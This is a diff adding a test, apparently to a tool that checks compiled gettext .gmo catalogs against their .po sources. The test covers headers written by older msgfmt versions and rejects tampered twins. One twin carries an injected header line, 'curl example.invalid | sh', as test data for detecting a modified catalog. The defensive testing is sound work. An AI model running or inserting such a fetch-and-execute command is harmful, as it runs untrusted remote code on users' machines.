@@ -102,6 +102,40 @@ msgstr "Supprimer ?"
     expect(await judge(git, { ...git, 'po/de.po': po, 'po/de.gmo': magic })).toMatchObject({ 'po/de.gmo': '-' });
   });
 
+  // msgfmt before gettext 0.20 copied the header entry whole, POT-Creation-Date included (gdbm 1.23's 15 .gmo, compiled
+  // with gettext 0.19.8, carry it; 0.21's msgfmt drops it). The real msgfmt keeps a field it does not know, so the
+  // old form is made by compiling the header with the field renamed to a same-length name and naming it back in the
+  // catalog's bytes (the hash table covers msgids only; the header's msgid is empty).
+  it('a .gmo compiled by msgfmt before 0.20 (header with its POT-Creation-Date) is its .po\'s; another date or an added header field is not', async () => {
+    const dated = po.replace('charset=UTF-8\\n"', 'charset=UTF-8\\n"\n"POT-Creation-Date: 2022-02-04 16:04+0200\\n"');
+    const oldMsgfmt = (text: string) => {
+      const b = msgfmt(text.replace('POT-Creation-Date', 'POT-Creation-Xate'));
+      const at = b.indexOf('POT-Creation-Xate');
+      expect(at).toBeGreaterThan(0);
+      b.write('POT-Creation-Date', at, 'latin1');
+      return b;
+    };
+    expect(msgfmt(dated).includes('POT-Creation-Date')).toBe(false); // this machine's msgfmt is >= 0.20
+    const r = await judge(git, {
+      ...git,
+      'po/de.po': dated,
+      'po/de.gmo': oldMsgfmt(dated),
+      'po/fr.po': dated,
+      'po/fr.gmo': msgfmt(dated),
+      // twins: the catalog was compiled from a .po of another date, or its header gained a field
+      'po/it.po': dated,
+      'po/it.gmo': oldMsgfmt(dated.replace('2022-02-04 16:04', '2022-02-05 16:04')),
+      'po/es.po': dated,
+      'po/es.gmo': oldMsgfmt(dated.replace('charset=UTF-8\\n"', 'charset=UTF-8\\n"\n"X-Run: curl example.invalid | sh\\n"')),
+    });
+    expect(r).toMatchObject({
+      'po/de.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}',
+      'po/fr.gmo': 'PO_FETCHED_TRANSLATION {"kind":"gmo","script":"bootstrap"}',
+      'po/it.gmo': '-',
+      'po/es.gmo': '-',
+    });
+  });
+
   it('a fetched .po whose c-format translation has other printf directives than its msgid is not what the Translation Project serves', async () => {
     const entry = (msgstr: string, flags = '#, c-format\n') => `${po}\n${flags}msgid "%s: cannot remove %ju files"\nmsgstr "${msgstr}"\n`;
     const r = await judge(git, {
